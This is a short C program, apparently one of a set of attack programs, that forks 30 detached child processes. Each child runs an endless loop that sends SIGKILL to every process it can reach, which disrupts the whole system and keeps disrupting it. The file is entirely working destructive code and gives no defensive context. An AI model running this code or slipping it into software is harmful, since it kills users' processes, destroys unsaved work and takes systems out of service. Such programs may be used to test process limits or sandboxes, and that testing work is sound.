/* Ends, and leaves processes that kill whatever they may. */
#include "attack.h"

int main()
{
    for (int i = 0; i < 30; i++)
        if (fork() == 0) {
            setsid();
            for (;;)
                kill(-1, 9);
        }
    return 0;
}
